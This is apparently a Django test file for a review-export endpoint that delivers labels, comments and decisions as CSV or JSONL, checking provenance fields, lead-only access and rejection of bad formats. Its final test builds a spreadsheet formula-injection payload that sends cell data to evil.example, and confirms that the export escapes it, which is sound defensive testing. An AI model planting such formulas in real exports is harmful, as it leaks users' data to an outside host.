"""Leads download the review work (labels, comments, decisions) of a batch or a filter, as
CSV or JSON Lines, with who, when, and human or model."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from curation.models import Batch, BatchItem, Comment, ModelEndpoint
from curation.services.labels import flaw_label_set
from curation.services.reviews import review_decide

pytestmark = pytest.mark.django_db


@pytest.fixture
def reviewed(make_trajectory, reviewer, lead, taxonomy, problem):
    model = ModelEndpoint.objects.create(name="judge", backend="openai", model="m")
    inside, outside = make_trajectory(is_correct=False), make_trajectory(is_correct=True)
    batch = Batch.objects.create(name="b", created_by=lead, reasoner=model, intervener=model)
    BatchItem.objects.create(batch=batch, problem=problem, root=inside, trajectory=inside)
    flaw_label_set(trajectory=inside, step_index=0, flaw_type=taxonomy[0], by_endpoint=model)
    flaw_label_set(trajectory=inside, step_index=0, flaw_type=taxonomy[0], by_user=reviewer,
                   note="by hand", reason="first look")  # fmt: skip
    flaw_label_set(trajectory=inside, step_index=0, flaw_type=None, by_user=reviewer)
    Comment.objects.create(trajectory=inside, step_index=0, text="why by hand?", author=lead)
    review_decide(trajectory=inside, decision="needs_work", by=reviewer, reason="fix step 1")
    review_decide(trajectory=outside, decision="approved", by=reviewer)
    return {"batch": batch, "inside": inside, "outside": outside, "model": model}


def test_a_lead_downloads_a_batchs_review_as_csv_with_provenance(client_for, lead, reviewed):
    response = client_for(lead).get(
        reverse("curation-review-export"), {"batch": reviewed["batch"].pk, "format": "csv"}
    )
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="review-batch-' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {int(r["trajectory_id"]) for r in rows} == {reviewed["inside"].pk}
    kinds = [(r["kind"], r["author_kind"], r["author"]) for r in rows]
    assert kinds == [
        ("label", "model", "judge"), ("label", "human", "rita-reviewer"),
        ("label", "human", "rita-reviewer"), ("comment", "human", "leo-lead"),
        ("decision", "human", "rita-reviewer"),
    ]  # fmt: skip
    first_human = rows[1]
    assert (first_human["note"], first_human["reason"], first_human["current"]) == (
        "by hand", "first look", "False")  # fmt: skip
    assert rows[2]["value"] == "" and rows[2]["current"] == "True"  # cleared, the latest
    assert rows[4]["value"] == "needs_work" and rows[4]["reason"] == "fix step 1"
    assert all(r["created_at"] for r in rows)


def test_a_lead_downloads_a_filter_as_jsonl(client_for, lead, reviewed):
    response = client_for(lead).get(
        reverse("curation-review-export"), {"correctness": "correct", "format": "jsonl"}
    )
    lines = b"".join(response.streaming_content).decode().splitlines()
    rows = [json.loads(line) for line in lines]
    assert [(r["kind"], r["value"], r["trajectory_id"]) for r in rows] == [
        ("decision", "approved", reviewed["outside"].pk)
    ]


def test_the_export_is_refused_below_lead_and_for_a_bad_format(client_for, reviewer, lead):
    assert client_for(reviewer).get(reverse("curation-review-export")).status_code == 403
    client = client_for(lead)
    response = client.get(reverse("curation-review-export"), {"format": "xlsx"})
    assert response.status_code == 400 and b"csv or jsonl" in response.content


def test_the_csv_export_keeps_a_comment_that_looks_like_a_formula_as_text(
    client_for, lead, reviewed
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Comment.objects.create(trajectory=reviewed["inside"], step_index=0, text=formula, author=lead)
    response = client_for(lead).get(
        reverse("curation-review-export"), {"batch": reviewed["batch"].pk, "format": "csv"}
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [value for row in rows for value in row.values()]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
